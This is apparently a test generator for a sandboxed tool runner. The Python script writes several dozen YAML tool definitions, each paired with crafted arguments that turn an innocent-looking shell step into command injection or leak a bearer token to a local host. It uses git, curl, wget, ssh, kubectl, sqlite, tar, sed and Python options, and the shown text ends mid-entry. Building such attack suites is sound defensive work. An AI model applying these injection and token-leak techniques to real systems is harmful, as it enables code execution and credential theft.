#!/usr/bin/env python3
"""Writes blind34r11/attacks/NNN-name.yaml + .json (written for this round, from the docs only).
Structure copied from tests/check/blind34r7/tools/gen_attacks.py; every attack is new."""
import base64, io, json, os, tarfile

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "..", "attacks")
SH = "echo HARBOR-PWNED-$((6*7)) >&2"            # shell payload, marker computed at run time
CMD = "$(" + SH + ")"
PYX = "'+'HARBOR-PWNED-'+str(6*7)+'"            # closes a python '...' literal, marker computed
AWKX = '"; system("echo HARBOR-PWNED-" 6*7); "'  # closes an awk "..." literal
SEC = "secrets:\n  API_TOKEN: {env: CI_API_TOKEN}\n"
ATT = []


def A(name, cls, y, args, why, **extra):
    ATT.append((name, cls, y.strip() + "\n", args, why, extra))


def b64(text):
    return base64.b64encode(text.encode()).decode()


def tar_b64(files):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as t:
        for name, text in files.items():
            if name.endswith("/"):
                ti = tarfile.TarInfo(name.rstrip("/"))
                ti.type = tarfile.DIRTYPE
                ti.mode = 0o755
                t.addfile(ti)
                continue
            data = text.encode()
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            ti.mode = 0o644
            ti.mtime = 1700000000
            t.addfile(ti, io.BytesIO(data))
    return base64.b64encode(buf.getvalue()).decode()


# =============================================================== 1. git output, caller's revision
A("announce-rev", "git-output-caller-rev", r'''
name: announce_rev
description: Print the announcement banner for a revision after checking it names a commit.
args:
  rev: {type: string, description: "revision to announce, e.g. HEAD or v1.4.2"}
required: [rev]
steps:
  - name: banner
    run: |
      ref=$(git rev-parse --verify --symbolic "$ARG_rev")
      bash -c "echo Announcing the build of $ref"
''', {"rev": ":/!-" + CMD},
  "git rev-parse --verify prints an object name (hex) - but with --symbolic it prints the revision as the caller wrote it; ':/!-TEXT' resolves (the newest commit whose message does not match TEXT), so the caller's $(...) comes back and runs in bash -c.")

A("label-rev", "git-output-caller-rev", r'''
name: label_rev
description: Show which ref name a revision was reached by.
args:
  rev: {type: string, description: "revision, e.g. main"}
required: [rev]
steps:
  - name: label
    run: |
      via=$(git log -1 --format=%S "$ARG_rev")
      eval "label=\"$via\""
      printf 'reached via %s\n' "$label"
''', {"rev": ":/!-" + CMD},
  "git log only reads the repository, but the %S placeholder prints the revision exactly as given on the command line; the caller's text comes back out of git and is evaluated.")

A("review-rev", "git-output-caller-rev", r'''
name: review_rev
description: Print a review header for a revision.
args:
  rev: {type: string, description: "revision to review"}
required: [rev]
steps:
  - name: header
    run: |
      line=$(git show -s --format='%h %S' "$ARG_rev")
      python3 -c "print('Reviewing $line')"
''', {"rev": "HEAD^{/!-" + PYX + "}"},
  "git show -s with %S echoes the revision as written; 'HEAD^{/!-REGEX}' resolves, and the regex text closes the python string literal and adds the marker.")

A("object-kind", "git-output-caller-rev", r'''
name: object_kind
description: Tell whether a name is a commit, tree or blob in the repository.
args:
  name: {type: string, description: "object name or revision"}
required: [name]
steps:
  - name: kind
    run: |
      obj=$(printf '%s\n' "$ARG_name" | git cat-file --batch-check='%(objectname) %(objecttype)')
      awk "BEGIN { print \"object: $obj\" }"
''', {"name": "nosuch" + AWKX},
  "git cat-file --batch-check prints object names and types, but for a name that does not resolve it prints the input line followed by 'missing'; the caller's line closes the awk string and calls system().")

A("stamp-docs", "git-output-caller-rev", r'''
name: stamp_docs
description: Print the docs index with the @REF@ marker replaced by a revision.
args:
  rev: {type: string, description: "revision to stamp"}
required: [rev]
steps:
  - name: stamp
    run: |
      ref=$(git rev-parse --symbolic "$ARG_rev")
      sed "s|@REF@|$ref|" docs/index.md
''', {"rev": ":/!-zzq|;1e " + SH.replace(" >&2", "") + " #"},
  "git rev-parse --symbolic prints the revision as given; the text after '|' ends the sed s command and GNU sed's e command runs the rest as a shell command.")

# =============================================================== 2. curl -w formats
RESP_CT = {"/health": {"status": 200, "headers": {"Content-Type": "text/plain" + CMD}, "body": "ok"}}
A("health-ctype", "curl-w-format", r'''
name: health_ctype
description: Report the content type a service's health endpoint answers with.
args:
  host: {type: string, pattern: "[A-Za-z0-9.:-]+", description: "host[:port] of the service"}
required: [host]
steps:
  - name: probe
    run: |
      ctype=$(curl -s -o /dev/null -w '%{content_type}' "http://$ARG_host/health")
      sh -c "echo health answers as $ctype"
''', {"host": "127.0.0.1:18766"},
  "curl -w prints only what the format names, and the format is the author's literal; but %{content_type} is the Content-Type header of a host the caller picked.",
  responses=RESP_CT)

A("redirect-target", "curl-w-format", r'''
name: redirect_target
description: Say where a service's short link redirects to.
args:
  host: {type: string, pattern: "[A-Za-z0-9.:-]+", description: "host[:port] of the link service"}
  code: {type: string, pattern: "[a-z0-9]+", description: "short code"}
required: [host, code]
steps:
  - name: resolve
    run: |
      loc=$(curl -s -o /dev/null -w '%{redirect_url}' "http://$ARG_host/l/$ARG_code")
      bash -c "echo redirects to $loc"
''', {"host": "127.0.0.1:18766", "code": "abc"},
  "%{redirect_url} is the Location header of the caller's host.",
  responses={"/l/abc": {"status": 302, "headers": {"Location": "http://127.0.0.1:18766/x" + CMD}, "body": ""}})

A("build-id", "curl-w-format", r'''
name: build_id
description: Read the X-Build-Id header a service sends and print it.
args:
  host: {type: string, pattern: "[A-Za-z0-9.:-]+", description: "host[:port]"}
required: [host]
steps:
  - name: read
    run: |
      bid=$(curl -s -o /dev/null -w '%header{x-build-id}' "http://$ARG_host/version")
      awk "BEGIN { print \"build: $bid\" }"
''', {"host": "127.0.0.1:18766"},
  "%header{NAME} prints a response header of the caller's host; it closes the awk string.",
  responses={"/version": {"status": 200, "headers": {"X-Build-Id": "7" + AWKX}, "body": ""}})

A("final-url", "curl-w-format", r'''
name: final_url
description: Follow redirects from a service's landing page and report the final URL.
args:
  host: {type: string, pattern: "[A-Za-z0-9.:-]+", description: "host[:port]"}
required: [host]
steps:
  - name: follow
    run: |
      final=$(curl -sL --max-redirs 3 -o /dev/null -w '%{url_effective}' "http://$ARG_host/")
      python3 -c "print('landed on $final')"
''', {"host": "127.0.0.1:18766"},
  "%{url_effective} after -L is the URL the caller's host redirected to; its path closes the python literal.",
  responses={"/": {"status": 302, "headers": {"Location": "/done" + PYX.replace(" ", "")}, "body": ""}})

A("status-code", "curl-w-format", r'''
name: status_code
description: Print the HTTP status code of a service's status page.
args:
  host: {type: string, pattern: "[A-Za-z0-9.:-]+", description: "host[:port]"}
required: [host]
steps:
  - name: code
    run: |
      code=$(curl -s -w '%{http_code}' "http://$ARG_host/status")
      bash -c "echo status $code"
''', {"host": "127.0.0.1:18766"},
  "%{http_code} is three digits, but without -o the body is printed too and is captured with it; the caller's host sends the body.",
  responses={"/status": {"status": 200, "headers": {}, "body": CMD + " "}})

# =============================================================== 3. home folder, reached other ways
CURLRC = 'url = "http://127.0.0.1:18765/collect"\n'
A("curl-profile", "home-config", r'''
name: api_ping_with_profile
description: Ping the API using connection settings the caller uploads (timeouts, retries).
args:
  profile: {type: string, contentEncoding: base64, contentMediaType: text/plain, description: "curl settings"}
required: [profile]
''' + SEC + r'''
steps:
  - name: install
    run: |
      cd
      cp -- "$ARG_profile" .curlrc
  - name: ping
    run: |
      curl -s -o /dev/null -H "Authorization: Bearer $API_TOKEN" https://api.example.invalid/v1/ping || true
      echo pinged
''', {"profile": b64(CURLRC)},
  "'cd' with no operand goes to the home folder, so '.curlrc' is ~/.curlrc; curl reads it unasked and its 'url' adds a URL of the caller's, which gets the Authorization header.")

WGETRC = "use_proxy = on\nhttp_proxy = http://127.0.0.1:18765/\n"
A("wget-settings", "home-config", r'''
name: fetch_manifest
description: Fetch the release manifest; the caller may pass extra wget settings (one per line).
args:
  settings: {type: string, multiline: true, description: "wget settings, e.g. tries = 3"}
required: [settings]
''' + SEC + r'''
steps:
  - name: fetch
    run: |
      cd ~
      printf '%s\n' "$ARG_settings" > .wgetrc
      cd "$OLDPWD"
      wget -q -O "$HARBOR_RUN_DIR/manifest.json" --header "Authorization: Bearer $API_TOKEN" http://releases.example.invalid/manifest.json || true
      echo fetched
''', {"settings": WGETRC},
  "'cd ~' then a relative write puts caller text in ~/.wgetrc; wget reads it and sends the bearer token through the caller's proxy.")

GITCFG = '[core]\n\tfsmonitor = "' + SH + '; false"\n'
A("git-identity", "home-config", r'''
name: status_with_settings
description: Show the working tree status with the caller's git settings file applied.
args:
  gitconfig: {type: string, contentEncoding: base64, contentMediaType: text/plain, description: "git settings"}
required: [gitconfig]
steps:
  - name: settings
    run: |
      h=$(cd && pwd)
      mkdir -p "$h/.config/git"
      cp -- "$ARG_gitconfig" "$h/.config/git/config"
  - name: status
    run: git status --short
''', {"gitconfig": b64(GITCFG)},
  "The home folder named as $(cd && pwd), and git's second global file ~/.config/git/config; core.fsmonitor runs a command on git status.")

KUBECFG = """apiVersion: v1
kind: Config
clusters: [{name: c, cluster: {server: "https://127.0.0.1:1"}}]
users: [{name: u, user: {exec: {apiVersion: client.authentication.k8s.io/v1beta1, command: sh, args: ["-c", "echo HARBOR-PWNED-$((6*7)) >&2; exit 1"], interactiveMode: Never}}}]
contexts: [{name: x, context: {cluster: c, user: u}}]
current-context: x
"""
A("kubeconfig-home", "home-config", r'''
name: pods_with_kubeconfig
description: List pods with the kubeconfig the caller uploads.
args:
  kubeconfig: {type: string, contentEncoding: base64, contentMediaType: text/plain}
required: [kubeconfig]
steps:
  - name: install
    run: |
      h=$(echo ~)
      mkdir -p "$h/.kube"
      cp -- "$ARG_kubeconfig" "$h/.kube/config"
  - name: pods
    run: kubectl get pods --request-timeout=5s || true
''', {"kubeconfig": b64(KUBECFG)},
  "The home folder as $(echo ~); kubectl reads ~/.kube/config unasked and runs its user's exec credential plugin.")

A("user-site-pth", "home-config", r'''
name: add_import_path
description: Register an extra import folder for the project's python tools, then list installed modules count.
args:
  folder: {type: string, description: "folder to add to python's import path"}
required: [folder]
steps:
  - name: register
    run: |
      site_dir=$(python3 -m site --user-site)
      mkdir -p "$site_dir"
      printf '%s\n' "$ARG_folder" > "$site_dir/harbor-extra.pth"
  - name: check
    run: python3 -c 'import sys; print(len(sys.path))'
''', {"folder": "import os; os.system('" + SH + "')"},
  "The user site-packages named by python's own output (python3 -m site --user-site) instead of a path under ~; a .pth line that starts with 'import' runs at every python start.")

# =============================================================== 4. copies/links into the working folder
MK = "TARGET = $(shell echo HARBOR-PWNED-$$((6*7)) >&2)\n"


def copy_attack(name, cmd, title):
    A(name, "copy-into-workdir", r'''
name: report_with_overrides
description: Render the project report with make variables the caller gives.
args:
  overrides: {type: string, multiline: true, description: "make variable settings, one per line"}
required: [overrides]
steps:
  - name: save
    run: printf '%s\n' "$ARG_overrides" > "$HARBOR_RUN_DIR/overrides.mk"
  - name: place
    run: ''' + cmd + r'''
  - name: report
    run: make report
''', {"overrides": MK},
      "The caller's text is written only in the run folder (accepted); " + title + " puts it in the working folder as local.mk, which the project's Makefile includes, and make runs its $(shell).")


copy_attack("install-mk", 'install -m 0644 "$HARBOR_RUN_DIR/overrides.mk" ./local.mk', "install (not cp/ln)")
copy_attack("sort-o-mk", 'sort -o ./local.mk "$HARBOR_RUN_DIR/overrides.mk"', "sort -o")
copy_attack("dd-mk", 'dd if="$HARBOR_RUN_DIR/overrides.mk" of=local.mk status=none', "dd of=")

A("hardlink-env", "copy-into-workdir", r'''
name: env_preview
description: Preview the app environment after applying the caller's overrides file.
args:
  overrides: {type: string, multiline: true, description: "KEY=value lines"}
required: [overrides]
steps:
  - name: save
    run: printf '%s\n' "$ARG_overrides" > "$HARBOR_RUN_DIR/env.local"
  - name: preview
    run: |
      ln -f "$HARBOR_RUN_DIR/env.local" ./.env.local
      . ./.env.local
      printf 'APP_ENV=%s\n' "${APP_ENV:-dev}"
''', {"overrides": "APP_ENV=" + CMD},
  "A hard link (ln without -s) of a run-folder file into the working folder, then sourced as the project's .env.local.")

A("cp-target-py", "copy-into-workdir", r'''
name: settings_check
description: Print the NAME the project's local settings module defines, after saving the caller's settings.
args:
  settings: {type: string, multiline: true, description: "python settings (NAME = value lines)"}
required: [settings]
steps:
  - name: save
    run: printf '%s\n' "$ARG_settings" > "$HARBOR_RUN_DIR/localconf.py"
  - name: check
    run: |
      cp -t . -- "$HARBOR_RUN_DIR/localconf.py"
      python3 -c 'import localconf; print(localconf.NAME)'
''', {"settings": "NAME = 'web'\nprint('HARBOR-PWNED-'+str(6*7))"},
  "cp -t DIR SRC (target first) copies the run-folder file into the working folder; python3 -c imports localconf from its working folder, so the caller's module runs.")

# =============================================================== 5. cd into a within: folder
BUNDLE_MK = tar_b64({"app/Makefile": "lint:\n\t@echo HARBOR-PWNED-$$((6*7))\n"})
A("bundle-lint", "cd-within", r'''
name: bundle_lint
description: Unpack the caller's bundle and run the project's lint in one of its folders.
args:
  bundle: {type: string, contentEncoding: base64, contentMediaType: application/x-tar}
  dir: {type: string, within: ".", description: "folder to lint; must stay inside the project"}
required: [bundle, dir]
steps:
  - name: unpack
    run: |
      mkdir -p "$HARBOR_RUN_DIR/bundle"
      tar -xf "$ARG_bundle" -C "$HARBOR_RUN_DIR/bundle"
  - name: lint
    run: |
      cd "$HARBOR_RUN_DIR/bundle"
      cd "$ARG_dir"
      make lint
''', {"bundle": BUNDLE_MK, "dir": "app"},
  "within: '.' is judged from the working folder, but cd resolves the value from the current folder, which the script first set to the caller's unpacked bundle; make then runs the caller's Makefile.")

BUNDLE_PY = tar_b64({"pkg/json.py": "print('HARBOR-PWNED-' + str(6*7))\ndumps = str\n"})
A("tmp-pushd-py", "cd-within", r'''
name: bundle_summary
description: Unpack the caller's bundle in the temporary folder and summarise one of its folders.
args:
  bundle: {type: string, contentEncoding: base64, contentMediaType: application/x-tar}
  dir: {type: string, within: ".", description: "folder to summarise; must stay inside the project"}
required: [bundle, dir]
steps:
  - name: summary
    run: |
      tar -xf "$ARG_bundle" -C "$TMPDIR"
      pushd "$TMPDIR" >/dev/null
      pushd "$ARG_dir" >/dev/null
      python3 -c 'import json, os; print(json.dumps(sorted(os.listdir("."))))'
''', {"bundle": BUNDLE_PY, "dir": "pkg"},
  "pushd into the temporary folder, then pushd into a within: value relative to it; python3 -c imports json.py from the caller's folder.")

BUNDLE_SH = tar_b64({"svc/env.sh": "SERVICE_NAME=$(" + SH + ")\n"})
A("source-env-sh", "cd-within", r'''
name: service_env
description: Show a service's name from its env.sh in the unpacked bundle.
args:
  bundle: {type: string, contentEncoding: base64, contentMediaType: application/x-tar}
  service: {type: string, within: ".", description: "service folder, inside the project"}
required: [bundle, service]
steps:
  - name: show
    run: |
      work="$HARBOR_RUN_DIR/unpacked"
      mkdir -p "$work" && tar -xf "$ARG_bundle" -C "$work"
      cd "$work" && cd "$ARG_service"
      . ./env.sh
      printf 'service: %s\n' "$SERVICE_NAME"
''', {"bundle": BUNDLE_SH, "service": "svc"},
  "After cd into the run folder, cd into the within: value lands in the caller's unpacked folder; ./env.sh there is sourced.")

A("subshell-cd-make", "cd-within", r'''
name: stage_report
description: Stage the caller's report template and build it in a chosen folder.
args:
  template: {type: string, multiline: true, description: "report template (make syntax)"}
  dir: {type: string, within: ".", description: "folder to build in; inside the project"}
required: [template, dir]
steps:
  - name: stage
    run: |
      mkdir -p "$HARBOR_RUN_DIR/stage/docs"
      printf '%s\n' "$ARG_template" > "$HARBOR_RUN_DIR/stage/docs/Makefile"
      ( cd "$HARBOR_RUN_DIR/stage" && cd "$ARG_dir" && make -s )
''', {"template": "all:\n\t@echo HARBOR-PWNED-$$((6*7))", "dir": "docs"},
  "'docs' exists in the project (within: holds) and in the run folder's stage; after the first cd, cd docs lands in the caller's staged Makefile's folder.")

BUNDLE_GIT = tar_b64({"proj/": "", "proj/.git/": "", "proj/.git/objects/": "", "proj/.git/refs/": "",
                      "proj/.git/refs/heads/": "", "proj/.git/HEAD": "ref: refs/heads/main\n",
                      "proj/.git/config": "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = \"" + SH + "; false\"\n",
                      "proj/README.md": "hello\n"})
A("bundle-git-status", "cd-within", r"""
name: bundle_status
description: Unpack the caller's bundle and show git status of one project folder.
args:
  bundle: {type: string, contentEncoding: base64, contentMediaType: application/x-tar}
  dir: {type: string, within: ".", description: "project folder; must stay inside the project"}
required: [bundle, dir]
steps:
  - name: status
    run: |
      mkdir -p "$HARBOR_RUN_DIR/ws" && tar -xf "$ARG_bundle" -C "$HARBOR_RUN_DIR/ws"
      cd "$HARBOR_RUN_DIR/ws"
      cd "$ARG_dir"
      git status --short
""", {"bundle": BUNDLE_GIT, "dir": "proj"},
  "cd into the within: value after cd into the run folder: git works in the caller's unpacked repository and its .git/config's core.fsmonitor runs.")

# =============================================================== 6. values led by a server variable
A("api-base-userinfo", "env-led-value", r'''
name: api_get
description: GET a path of the internal API (API_BASE is set by the operator).
pass_env: [API_BASE]
args:
  path: {type: string, pattern: "[A-Za-z0-9/_.:@?=&-]+", description: "API path with query, e.g. /v1/items?limit=5"}
required: [path]
''' + SEC + r'''
steps:
  - name: get
    run: |
      curl -s -o "$HARBOR_RUN_DIR/resp.json" -H "Authorization: Bearer $API_TOKEN" "$API_BASE$ARG_path" || true
      echo done
''', {"path": "@127.0.0.1:18765/v1/items"},
  "The URL is led by the operator's API_BASE (scheme and host the author's), but an '@' in the caller's part turns that host into userinfo and makes 127.0.0.1:18765 the host that gets the token.",
  server_env={"API_BASE": "http://api.internal.example"})

A("mirror-userinfo", "env-led-value", r'''
name: mirror_fetch
description: Fetch a file from the package mirror (MIRROR_BASE is set by the operator).
pass_env: [MIRROR_BASE]
args:
  file: {type: string, pattern: "[A-Za-z0-9/_.:@-]+", description: "file path on the mirror"}
required: [file]
''' + SEC + r'''
steps:
  - name: fetch
    run: |
      wget -q -O "$HARBOR_RUN_DIR/pkg" --header "Authorization: Bearer $API_TOKEN" "$MIRROR_BASE$ARG_file" || true
      echo done
''', {"file": "@127.0.0.1:18765/pool/a.deb"},
  "wget's URL led by the operator's MIRROR_BASE; the caller's '@' makes the mirror's name userinfo and the token goes to the caller's host.",
  server_env={"MIRROR_BASE": "http://mirror.internal"})

A("snapshot-prefix", "env-led-value", r'''
name: snapshot
description: Archive a folder of the project (under SNAPSHOT_ROOT when the operator sets one).
pass_env: [SNAPSHOT_ROOT]
args:
  path: {type: string, description: "folder to archive, e.g. ./config"}
required: [path]
steps:
  - name: archive
    run: |
      tar -cf "$HARBOR_RUN_DIR/snapshot.tar" "$SNAPSHOT_ROOT${ARG_path#./}" README.md
      ls -l "$HARBOR_RUN_DIR/snapshot.tar"
''', {"path": "./--use-compress-program=sh -c '" + SH + "; cat'"},
  "The operand is led by SNAPSHOT_ROOT, so it is taken as never an option; when the server does not set it (pass_env passes it only when present), ${path#./} leads and starts with '--'.",
  server_env={"SNAPSHOT_ROOT": None})

A("extract-member", "env-led-value", r'''
name: show_member
description: Pack the src folder and extract one member of it (MEMBER_PREFIX from the operator, may be empty).
pass_env: [MEMBER_PREFIX]
args:
  member: {type: string, description: "member to extract, e.g. ./src/app.py"}
required: [member]
steps:
  - name: extract
    run: |
      tar -cf "$HARBOR_RUN_DIR/src.tar" src
      mkdir -p "$HARBOR_RUN_DIR/out"
      tar -xf "$HARBOR_RUN_DIR/src.tar" -C "$HARBOR_RUN_DIR/out" "$MEMBER_PREFIX${ARG_member#./}"
''', {"member": "./--to-command=sh -c '" + SH + "'"},
  "An empty MEMBER_PREFIX leads the word; ${member#./} then starts with '--' and tar runs --to-command for each member.",
  server_env={"MEMBER_PREFIX": ""})

# =============================================================== 7. read from < <(...)
A("first-line-func", "read-procsub", r'''
name: first_line
description: Print the first line of a note.
args:
  note: {type: string, description: "the note"}
required: [note]
steps:
  - name: first
    run: |
      first_of() {
        read -r line < <(sed -n 1p /dev/stdin)
        bash -c "echo first line: $line"
      }
      first_of <<< "$ARG_note"
''', {"note": CMD},
  "read takes from < <(sed -n 1p /dev/stdin): a literal program reading a file it names - but /dev/stdin is the function's here-string, the caller's note.")

A("csv-header-dash", "read-procsub", r'''
name: csv_header
description: Print the header of the caller's CSV.
args:
  csv: {type: string, contentEncoding: base64, contentMediaType: text/csv}
required: [csv]
steps:
  - name: header
    run: |
      {
        read -r hdr < <(head -n 1 -)
        awk "BEGIN { print \"columns: $hdr\" }"
      } < "$ARG_csv"
''', {"csv": b64("a" + AWKX + "\n1,2\n")},
  "head's operand '-' is its standard input, inherited by the process substitution from the group's redirection of the caller's file.")

A("loop-proc-fd0", "read-procsub", r'''
name: count_lines_per_file
description: For each file named in the caller's list, print its name.
args:
  list: {type: string, contentEncoding: base64, contentMediaType: text/plain}
required: [list]
steps:
  - name: each
    run: |
      while :; do
        read -r name < <(head -n 1 /proc/self/fd/0) || break
        python3 -c "print('file: $name')"
        break
      done < "$ARG_list"
''', {"list": b64("x" + PYX + "\n")},
  "/proc/self/fd/0 is a file no step writes, but it is the standard input head inherits: the while loop's redirection of the caller's list; read is in the while body, from < <(...).")

A("shm-note", "read-procsub", r'''
name: remember_note
description: Remember a note in shared memory and print it back in the next step.
args:
  note: {type: string, description: "short note"}
required: [note]
steps:
  - name: keep
    run: printf '%s\n' "$ARG_note" > /dev/shm/harbor-last-note
  - name: show
    run: |
      read -r note < <(cat /dev/shm/harbor-last-note)
      sh -c "echo last note: $note"
''', {"note": CMD},
  "/dev/shm is writable by every step (the sandbox says so) but is neither the run folder nor TMPDIR; cat of a literal absolute path there is taken as the author's file.")

A("vartmp-while", "read-procsub", r'''
name: label_history
description: Record a label and list the recorded labels.
args:
  label: {type: string, description: "label"}
required: [label]
steps:
  - name: record
    run: printf '%s\n' "$ARG_label" | tee -a /var/tmp/harbor-labels >/dev/null
  - name: list
    run: |
      while read -r l < <(sort -u /var/tmp/harbor-labels); do
        bash -c "echo label: $l"
        break
      done
''', {"label": CMD},
  "tee writes the caller's label to /var/tmp (a literal absolute path, not TMPDIR); the next step reads it in a while condition from < <(sort -u FILE).")

# =============================================================== 8. step outputs written as echo "key=$v"
A("notes-inject-version", "step-output-key", r'''
name: release_notes
description: Record the release version and the caller's notes, then announce.
args:
  notes: {type: string, multiline: true, description: "release notes"}
required: [notes]
steps:
  - name: prep
    run: |
      echo "version=$(git describe --tags --abbrev=0)" >> "$HARBOR_STEP_OUTPUT"
      echo "notes=$ARG_notes" >> "$HARBOR_STEP_OUTPUT"
  - name: announce
    run: bash -c "echo releasing $STEP_prep_version"
''', {"notes": "fixes\nversion=" + CMD},
  "Each statement is echo \"key=$v\": version holds git describe's (author's) text and notes the caller's. But a multiline value writes a line break, so the caller writes a second version= line, the one read back.")

A("summary-inject-count", "step-output-key", r'''
name: error_summary
description: Count ERROR lines and keep the caller's summary; then compute the next count.
args:
  summary: {type: string, multiline: true}
required: [summary]
steps:
  - name: scan
    run: |
      printf 'errors=%s\n' "$(grep -c ERROR logs/app.log || true)" >> "$HARBOR_STEP_OUTPUT"
      printf 'summary=%s\n' "$ARG_summary" >> "$HARBOR_STEP_OUTPUT"
  - name: next
    run: echo "next=$(( STEP_scan_errors + 1 ))"
''', {"summary": "ok\nerrors=x[" + CMD + "]"},
  "errors is a count (grep -c) so arithmetic on it looks safe; the multiline summary adds an errors= line holding an array subscript that bash arithmetic expands.")

A("title-inject-sha", "step-output-key", r'''
name: stamp_base
description: Record the merge base with main and the caller's title, then stamp the docs.
args:
  title: {type: string, multiline: true}
required: [title]
steps:
  - name: base
    run: |
      echo "sha=$(git merge-base HEAD main)" >> "$HARBOR_STEP_OUTPUT"
      echo "title=$ARG_title" >> "$HARBOR_STEP_OUTPUT"
  - name: stamp
    run: sed "s/@SHA@/$STEP_base_sha/" docs/index.md
''', {"title": "t\nsha=x/;1e " + SH.replace(" >&2", "") + " #"},
  "sha holds a git merge-base hash (hex) so it looks inert in a sed script; the multiline title writes another sha= line that ends the s command and runs e.")

A("client-inject", "step-output-key", r"""
name: client_audit
description: Record the tag and which client asked, then print the tag banner.
steps:
  - name: who
    run: |
      echo "tag=$(git describe --tags --abbrev=0)" >> "$HARBOR_STEP_OUTPUT"
      echo "client=$HARBOR_CALLER_CLIENT" >> "$HARBOR_STEP_OUTPUT"
  - name: banner
    run: bash -c "echo tag $STEP_who_tag"
""", {},
  "The claimed clientInfo name is a caller variable but no argument: no line-break rule applies to it, so echo \"client=$v\" can write a second tag= line.",
  caller_client="evil-client\ntag=" + CMD)

# =============================================================== 9. files read as code by options
ENVF = "APP_MODE=report\nNODE_OPTIONS=\"--import=data:text/javascript,console.error('HARBOR-PWNED-'+6*7)\"\n"
A("node-env-file", "option-reads-code", r'''
name: node_mode
description: Print the app mode from the caller's env file.
args:
  envfile: {type: string, contentEncoding: base64, contentMediaType: text/plain}
required: [envfile]
steps:
  - name: mode
    run: node --env-file="$ARG_envfile" -e 'console.log(process.env.APP_MODE || "default")'
''', {"envfile": b64(ENVF)},
  "node --env-file reads KEY=value data - and NODE_OPTIONS among them is applied, so --import of a data: URL runs the caller's JavaScript.")

A("ssh-F", "option-reads-code", r'''
name: ssh_check
description: Check that the deploy host is reachable with the caller's ssh settings.
args:
  sshconfig: {type: string, contentEncoding: base64, contentMediaType: text/plain}
required: [sshconfig]
steps:
  - name: copy
    run: cp -- "$ARG_sshconfig" "$HARBOR_RUN_DIR/ssh_config"
  - name: check
    run: ssh -F "$HARBOR_RUN_DIR/ssh_config" -o BatchMode=yes -o ConnectTimeout=3 deploy-host true || echo unreachable
''', {"sshconfig": b64("Host *\n  ProxyCommand sh -c '" + SH + "'\n")},
  "ssh -F names a configuration file; its ProxyCommand runs locally.")

A("sqlite-init-opt", "option-reads-code", r'''
name: sqlite_query
description: Run the stock row count with the caller's sqlite shell settings file.
args:
  settings: {type: string, contentEncoding: base64, contentMediaType: text/plain}
required: [settings]
steps:
  - name: query
    run: |
      cp -- "$ARG_settings" "$HARBOR_RUN_DIR/sqliterc"
      sqlite3 -init "$HARBOR_RUN_DIR/sqliterc" ":memory:" "select 42;"
''', {"settings": b64(".system " + SH + "\n")},
  "sqlite3 -init reads a file of dot-commands before the SQL; .system runs a shell command.")

A("wget-config", "option-reads-code", r"""
name: fetch_with_wgetrc
description: Fetch the release manifest with the caller's wget settings file.
args:
  wgetrc: {type: string, contentEncoding: base64, contentMediaType: text/plain}
required: [wgetrc]
""" + SEC + r"""
steps:
  - name: fetch
    run: |
      cp -- "$ARG_wgetrc" "$HARBOR_RUN_DIR/wgetrc"
      wget --config="$HARBOR_RUN_DIR/wgetrc" -q -O "$HARBOR_RUN_DIR/manifest.json" --header "Authorization: Bearer $API_TOKEN" http://releases.example.invalid/manifest.json || true
      echo fetched
""", {"wgetrc": b64(WGETRC)},
  "wget --config names a settings file (run folder, caller's bytes); its http_proxy sends the bearer header to the caller's host.")

A("git-dir-option", "option-reads-code", r"""
name: status_against_meta
description: Show the working tree's status against the caller's uploaded repository metadata.
args:
  meta: {type: string, contentEncoding: base64, contentMediaType: application/x-tar}
required: [meta]
steps:
  - name: status
    run: |
      mkdir -p "$HARBOR_RUN_DIR/meta" && tar -xf "$ARG_meta" -C "$HARBOR_RUN_DIR/meta"
      git --git-dir="$HARBOR_RUN_DIR/meta/repo.git" --work-tree=. status --short | head -5
""", {"meta": tar_b64({"repo.git/": "", "repo.git/objects/": "", "repo.git/refs/": "", "repo.git/refs/heads/": "",
                       "repo.git/HEAD": "ref: refs/heads/main\n",
                       "repo.git/config": "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = \"" + SH + "; false\"\n"})},
  "git --git-dir names a folder whose config git reads as code (core.fsmonitor); the folder is the caller's unpacked upload in the run folder.")

# =============================================================== 10. enum command words
A("compare-collapse", "enum-command-word", r'''
name: compare_files
description: Compare two files of the project with cmp or diff.
args:
  tool: {enum: [cmp, diff], description: "comparison tool"}
  a: {type: string, within: ".", description: "first file, inside the project"}
  b: {type: string, within: ".", description: "second file, inside the project"}
required: [a, b]
steps:
  - name: compare
    run: '{{ args.tool }} "$ARG_a" "$ARG_b" || true'
''', {"a": "eval", "b": "echo HARBOR-PWNED-$((6*7))"},
  "A command word made of an enum value is one of the author's programs - but an optional enum arg not sent renders as nothing, and the caller's first path becomes the command word (eval).")

A("null-enum-wrapper", "enum-command-word", r'''
name: timed_count
description: Count lines of a project file, optionally under a wrapper.
args:
  wrapper: {type: ["string", "null"], enum: [nice, time, null], default: null}
  file: {type: string, within: ".", description: "file inside the project"}
  label: {type: string, description: "label for the count"}
required: [file, label]
steps:
  - name: count
    run: |
      {{ args.wrapper }} "$ARG_file" "$ARG_label"
''', {"file": "eval", "label": "echo HARBOR-PWNED-$((6*7))"},
  "The enum admits null, which renders as the empty string; the caller's within: file 'eval' is then the command word.")

# =============================================================== 11. python modules reading operands as code
A("pydoc-upload", "module-operand-code", r'''
name: module_docs
description: Render the docs of the caller's uploaded python module.
args:
  module: {type: string, contentEncoding: base64, contentMediaType: text/x-python}
required: [module]
steps:
  - name: docs
    run: python3 -m pydoc "$ARG_module"
''', {"module": b64("print('HARBOR-PWNED-' + str(6*7))\n")},
  "Caller data after the program (python3 -m pydoc) is argv data; pydoc imports a path operand to document it, running it.")

A("timeit-stmt", "module-operand-code", r'''
name: time_expression
description: Time a python expression over the project's numbers (one run).
args:
  expr: {type: string, description: "python expression to time, e.g. sum(range(100))"}
required: [expr]
steps:
  - name: time
    run: python3 -m timeit -n 1 -r 1 "$ARG_expr"
''', {"expr": "print('HARBOR-PWNED-' + str(6*7))"},
  "Caller data after the program (python3 -m timeit) is argv of a module - but timeit's operand is a statement it compiles and runs.")

A("doctest-upload", "module-operand-code", r'''
name: doc_examples
description: Run python's doctest over the caller's tutorial text.
args:
  text: {type: string, contentEncoding: base64, contentMediaType: text/plain}
required: [text]
steps:
  - name: doctest
    run: python3 -m doctest "$ARG_text" || true
